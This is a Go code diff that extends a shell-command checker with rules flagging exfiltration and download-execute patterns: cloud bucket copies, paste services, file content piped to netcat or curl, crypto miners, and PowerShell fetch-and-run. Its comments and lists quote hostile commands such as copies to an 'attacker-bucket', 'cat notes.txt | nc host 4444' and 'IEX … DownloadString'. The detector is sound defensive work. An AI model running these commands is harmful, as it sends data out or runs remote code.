@@ -33,6 +33,11 @@ func init() {
 		"channelCommands":    "commands read from finger, whois, DNS or a raw socket and run (eval \"$(finger …)\"): a shell served over that channel",
 		"mailAttachment":     "mail sent with a local file attached (-a, -A, --attach) or as its body (< FILE)",
 		"fetchedThenRun":     "a file fetched by wget or curl (its default name, -P DIR, --output-dir) or unpacked from a fetched archive, then run in the same script",
+		"bucketToBucket":     "an object copied from one cloud bucket into another bucket",
+		"pasted":             "a local file posted to a paste or gist service (pastebinit, gist, gh gist create|edit)",
+		"pipedFileSent":      "a file's content piped into nc, socat, telnet or an upload of standard input by curl or wget, to another host",
+		"minerRun":           "a cryptocurrency miner run (xmrig, cpuminer, …, or a stratum+tcp:// pool given)",
+		"powershellFetchRun": "PowerShell fetching a script and running it (IEX … DownloadString, iwr … | iex)",
 	} {
 		ruleTexts[k] = v
 	}
@@ -50,6 +55,10 @@ func (c *checker) network(u unit) {
 	c.dnsNameCarriesFile(cmd, name, u.dir)
 	c.channelCommands(cmd, name)
 	c.mailAttachment(cmd, name)
+	c.bucketToBucket(cmd, name)
+	c.pasted(cmd, name)
+	c.minerRun(cmd, name)
+	c.powershellFetchRun(cmd, name)
 }
 
 // plainWords are args' literal words that are not options, stopping at
@@ -508,6 +517,7 @@ func (c *checker) fetchedThenRun(units [][]unit) {
 	fetched := map[string]bool{}
 	type unpacked struct{ dir, stem string }
 	var folders []unpacked
+	piped := map[int]string{} // a pipeline's download, by its URL's last part
 	for _, us := range units {
 		for _, u := range us {
 			cmd := &u.cmd
@@ -536,9 +546,21 @@ func (c *checker) fetchedThenRun(units [][]unit) {
 				}
 			}
 			switch {
-			case name == "curl" || name == "wget":
+			case name == "curl" || name == "wget" || name == "fetch" || name == "lwp-download" || name == "aria2c":
 				for _, t := range fetchedNames(cmd, name) {
 					fetched[shell.Resolve(t, u.dir, c.home)] = true
+				}
+				if url := urlOperand(cmd); url != "" {
+					piped[cmd.Pipeline] = path.Base(url)
+				}
+			case unpackers[name] && cmd.Pipeline != 0 && piped[cmd.Pipeline] != "":
+				// "curl -L URL | tar xz": the archive comes down the pipe.
+				stem := piped[cmd.Pipeline]
+				for _, e := range archiveExts {
+					if s, ok := strings.CutSuffix(stem, e); ok {
+						folders = append(folders, unpacked{u.dir, s})
+						break
+					}
 				}
 			case unpackers[name]:
 				for _, o := range cmd.Args {
@@ -596,6 +618,32 @@ func fetchedNames(cmd *shell.Command, name string) []string {
 		case name == "curl" && a.Lit == "--output-dir" && i+1 < len(args):
 			dir = args[i+1].Lit
 		}
+	}
+	if name == "fetch" || name == "lwp-download" || name == "aria2c" {
+		// fetch(1) -o FILE, lwp-download URL [FILE], aria2c -o NAME -d DIR;
+		// else the URL's last part.
+		out := ""
+		for i, a := range args {
+			if (a.Lit == "-o" || a.Lit == "--out") && i+1 < len(args) {
+				out = args[i+1].Lit
+			}
+			if name == "aria2c" && (a.Lit == "-d" || a.Lit == "--dir") && i+1 < len(args) {
+				dir = args[i+1].Lit
+			}
+		}
+		if ops := operands(args); name == "lwp-download" && len(ops) > 1 {
+			out = ops[1].Lit
+		}
+		if url := urlOperand(cmd); out == "" && url != "" {
+			out = path.Base(url)
+		}
+		if out == "" || out == "-" {
+			return nil
+		}
+		if dir != "" && !strings.Contains(out, "/") {
+			out = path.Join(dir, out)
+		}
+		return []string{out}
 	}
 	out := downloadTargets(cmd, name)
 	if name == "wget" && !slices.ContainsFunc(args, func(w shell.Word) bool {
@@ -684,4 +732,261 @@ func remoteForwardServes(spec shell.Word) bool {
 		return true // dynamic: [BIND:]PORT
 	}
 	return accessPorts[last]
+}
+
+// ncListens reports nc, ncat or netcat told to listen (-l, --listen, or
+// a cluster holding l): a file fed to a listener goes to whoever connects,
+// which the README keeps everyday ("a listener that hands a file to
+// whoever connects"); a shell fed to one is shellOverNetwork's.
+func ncListens(name string, args []shell.Word) bool {
+	if name != "nc" && name != "ncat" && name != "netcat" {
+		return false
+	}
+	return slices.ContainsFunc(args, func(a shell.Word) bool {
+		return a.Literal && (a.Lit == "--listen" || len(a.Lit) > 1 && a.Lit[0] == '-' && a.Lit[1] != '-' && strings.ContainsRune(a.Lit[1:], 'l'))
+	})
+}
+
+// fetchToFile reports FreeBSD's fetch(1) writing its file to disk (its
+// default, or -o FILE): nothing reaches a pipe, so "fetch URL | sh" runs
+// nothing (dev6's label). "-o -" writes to standard output.
+func fetchToFile(cmd *shell.Command) bool {
+	if path.Base(cmd.Name) != "fetch" {
+		return false
+	}
+	for i, a := range cmd.Args {
+		if a.Lit == "-o" && i+1 < len(cmd.Args) && (cmd.Args[i+1].Lit == "-" || cmd.Args[i+1].Lit == "/dev/stdout") || a.Lit == "-o-" {
+			return false
+		}
+	}
+	return true
+}
+
+// bucketWord reports a copy destination in a cloud bucket, also when the
+// object's name is computed at run time ("s3://corp-data/$RemoteName":
+// the bucket is written out).
+func bucketWord(w shell.Word) bool {
+	if w.Literal {
+		return bucketURL(w.Lit)
+	}
+	lead, _, _ := strings.Cut(strings.Trim(w.Raw, `"'`), "$")
+	lead, _, _ = strings.Cut(lead, "`")
+	return bucketURL(lead) && strings.Contains(strings.SplitN(lead, "://", 2)[1], "/")
+}
+
+// bucketOf is the bucket (or container) a bucket URL names.
+func bucketOf(u string) string {
+	_, rest, _ := strings.Cut(u, "://")
+	b, _, _ := strings.Cut(rest, "/")
+	return b
+}
+
+// bucketToBucket flags a cloud copy from one bucket into another bucket
+// ("aws s3 cp s3://corp-data/x s3://attacker-bucket"): the README labels
+// an object copied to another bucket network-exfiltration. A copy within
+// one bucket, or out of a bucket to here, sends nothing elsewhere.
+func (c *checker) bucketToBucket(cmd *shell.Command, name string) {
+	if !cloudCLIs[name] && name != "gsutil" && name != "s3cmd" && name != "azcopy" && name != "rclone" {
+		return
+	}
+	if !slices.ContainsFunc(subcommandPath(cmd.Args, 4), func(v string) bool { return copyVerbs[v] }) {
+		return
+	}
+	var buckets []shell.Word // the bucket operands; the last is the destination
+	for _, o := range operands(cmd.Args) {
+		if bucketWord(o) {
+			buckets = append(buckets, o)
+		}
+	}
+	if len(buckets) < 2 {
+		return
+	}
+	last := buckets[len(buckets)-1]
+	dest := bucketOf(strings.Trim(last.Raw, `"'`))
+	for _, o := range buckets[:len(buckets)-1] {
+		if src := bucketOf(strings.Trim(o.Raw, `"'`)); src != dest && !strings.ContainsAny(src, "$`") {
+			c.because(name, o.Raw, last.Raw)
+			c.add(NetworkExfiltration)
+			return
+		}
+	}
+}
+
+// pasteCLIs post a file (or their standard input) to a paste or gist
+// service, where its URL makes it public.
+var pasteCLIs = map[string]bool{"pastebinit": true, "gist": true, "wgetpaste": true, "fpaste": true, "haste": true, "ix": true, "sprunge": true, "termbin": true}
+
+// pasted flags a local file posted to a paste or gist service: a paste
+// CLI given a file operand or fed one on standard input, and "gh gist
+// create|edit FILE" (the README: "a GitHub gist … is
+// network-exfiltration").
+func (c *checker) pasted(cmd *shell.Command, name string) {
+	args := cmd.Args
+	if name == "gh" {
+		v := subcommandPath(args, 2)
+		if len(v) < 2 || v[0] != "gist" || v[1] != "create" && v[1] != "edit" {
+			return
+		}
+		args = args[slices.IndexFunc(args, func(w shell.Word) bool { return w.Lit == v[1] })+1:]
+		if v[1] == "edit" {
+			// edit's operand is the gist; -a/--add FILE adds a file to it.
+			for i, a := range args {
+				if (a.Lit == "-a" || a.Lit == "--add") && i+1 < len(args) {
+					c.because(name, "gist", "edit", a.Lit, args[i+1].Raw)
+					c.add(NetworkExfiltration)
+					return
+				}
+			}
+			return
+		}
+	} else if !pasteCLIs[name] || helpOnly(args) {
+		return
+	}
+	for i, a := range args {
+		if i > 0 && slices.Contains([]string{"-d", "--desc", "--description", "-f", "--filename", "-t", "--title", "-b", "--paste-bin", "-s", "--service", "-a", "--author", "-l", "--language", "--syntax"}, args[i-1].Lit) {
+			continue
+		}
+		if a.Literal && !strings.HasPrefix(a.Lit, "-") || a.Literal && a.Lit == "-i" {
+			c.because(name, a.Raw)
+			c.add(NetworkExfiltration)
+			return
+		}
+	}
+	for _, r := range cmd.Redirects {
+		if p, ok := shell.PathOf(r.Target); ok && r.Read && p != "/dev/null" {
+			c.because(name, p)
+			c.add(NetworkExfiltration)
+			return
+		}
+	}
+}
+
+// rawSenders send their standard input to the host they name.
+var rawSenders = map[string]bool{"nc": true, "ncat": true, "netcat": true, "telnet": true, "socat": true}
+
+// readsLocalFile reports a command that prints a file's content: a file it
+// reads (engine/shell's Files) or the file operand of an encoder.
+func readsLocalFile(cmd *shell.Command) bool {
+	if cmd.Dynamic {
+		return false
+	}
+	if slices.ContainsFunc(cmd.Files(), func(f shell.FileUse) bool {
+		return f.Read && !strings.HasPrefix(f.Path, "/dev/") && !strings.HasPrefix(f.Path, "/proc/")
+	}) {
+		return true
+	}
+	if !fileEncoders[path.Base(cmd.Name)] {
+		return false
+	}
+	for i, a := range cmd.Args {
+		if strings.HasPrefix(a.Lit, "-") && len(a.Lit) > 1 ||
+			i > 0 && slices.Contains([]string{"-c", "-n", "-w", "-b", "-s", "-l", "-C", "-o", "-N"}, cmd.Args[i-1].Lit) {
+			continue // an option, or the value of one (head -c 1M)
+		}
+		if !strings.HasPrefix(a.Lit, "/dev/") && !strings.HasPrefix(a.Lit, "/proc/") {
+			return true
+		}
+	}
+	return false
+}
+
+// pipedFileSent flags a file's content piped into a raw network sender
+// or an upload of standard input ("cat notes.txt | nc host 4444",
+// "base64 f | curl -d @- URL"): the same upload as "nc host 4444 <
+// notes.txt", spelt with a pipe. A sender that listens, or talks to this
+// machine, sends it nowhere; ssh is left out (a local script or SQL fed
+// to a remote program is everyday).
+func (c *checker) pipedFileSent(s *shell.Script, units [][]unit) {
+	for i := range s.Commands {
+		if !anyUnit(units[i], func(u unit) bool { return readsLocalFile(&u.cmd) }) {
+			continue
+		}
+		for j := i + 1; j < len(s.Commands); j++ {
+			if s.Commands[j].Pipeline != s.Commands[i].Pipeline {
+				continue
+			}
+			if anyUnit(units[j], func(u unit) bool {
+				cmd := &u.cmd
+				if cmd.Dynamic {
+					return false
+				}
+				name := path.Base(cmd.Name)
+				if rawSenders[name] {
+					return !ncListens(name, cmd.Args) && !onlyLocal(cmd.Args) && !hasLit(cmd.Args, "localhost", "127.0.0.1", "::1") &&
+						!(name == "socat" && !slices.ContainsFunc(operands(cmd.Args), func(w shell.Word) bool {
+							k, _, _ := strings.Cut(strings.ToUpper(w.Lit), ":")
+							return socatNetwork(k) && !strings.Contains(w.Lit, "LISTEN")
+						}))
+				}
+				return (name == "curl" || name == "wget") && sendsStdin(cmd) && !onlyLocal(cmd.Args)
+			}) {
+				c.because(path.Base(s.Commands[i].Name), "|", path.Base(s.Commands[j].Name))
+				c.add(NetworkExfiltration)
+				c.because()
+				return
+			}
+		}
+	}
+}
+
+// minerWords mark a cryptocurrency miner pointed at a pool.
+var minerWords = []string{"stratum+tcp://", "stratum+ssl://", "stratum+tls://", "stratum2+tcp://", "stratum1+tcp://"}
+
+// miners are cryptocurrency miners' programs.
+var miners = map[string]bool{"xmrig": true, "xmr-stak": true, "minerd": true, "cpuminer": true, "cpuminer-multi": true,
+	"ccminer": true, "cgminer": true, "bfgminer": true, "ethminer": true, "t-rex": true, "nbminer": true, "lolminer": true,
+	"phoenixminer": true, "gminer": true, "nanominer": true, "srbminer": true, "teamredminer": true}
+
+// minerRun flags a cryptocurrency miner run (by name, or any program
+// given a stratum pool URL): the README's download-execute family names
+// miners, code from elsewhere burning the machine.
+func (c *checker) minerRun(cmd *shell.Command, name string) {
+	if miners[strings.ToLower(name)] && !helpOnly(cmd.Args) {
+		c.because(name)
+		c.add(DownloadExecute)
+		return
+	}
+	for _, a := range cmd.Args {
+		l := strings.ToLower(a.Raw)
+		if slices.ContainsFunc(minerWords, func(w string) bool { return strings.Contains(l, w) }) && !plainArguments[name] {
+			c.because(name, a.Raw)
+			c.add(DownloadExecute)
+			return
+		}
+	}
+}
+
+// psDownloads and psRuns are PowerShell's words for fetching text and for
+// running text as code.
+var (
+	psDownloads = []string{"downloadstring", "downloadfile", "downloaddata", "invoke-webrequest", "iwr ", "iwr(", "invoke-restmethod", "irm ", "irm(", "net.webclient", "start-bitstransfer"}
+	psRuns      = []string{"iex", "invoke-expression", "start-process", "& $", ".invoke("}
+)
+
+// powershellFetchRun flags pwsh/powershell given a command that fetches
+// a script and runs it ("IEX (New-Object Net.WebClient).DownloadString(…)",
+// "iwr URL | iex"): download-execute as "curl URL | sh" is.
+func (c *checker) powershellFetchRun(cmd *shell.Command, name string) {
+	n := strings.TrimSuffix(strings.ToLower(name), ".exe")
+	if n != "pwsh" && n != "powershell" {
+		return
+	}
+	text := strings.ToLower(cmd.Text)
+	if slices.ContainsFunc(psDownloads, func(w string) bool { return strings.Contains(text, w) }) &&
+		slices.ContainsFunc(psRuns, func(w string) bool { return strings.Contains(text, w) }) {
+		c.because(name)
+		c.add(DownloadExecute)
+	}
+}
+
+// urlOperand is the path of the first URL a command names ("" if none),
+// its query left out.
+func urlOperand(cmd *shell.Command) string {
+	for _, a := range cmd.Args {
+		u, _, _ := strings.Cut(a.Lit, "?")
+		if _, rest, ok := strings.Cut(u, "://"); a.Literal && ok && strings.Contains(rest, "/") && !strings.HasSuffix(rest, "/") {
+			return rest
+		}
+	}
+	return ""
 }
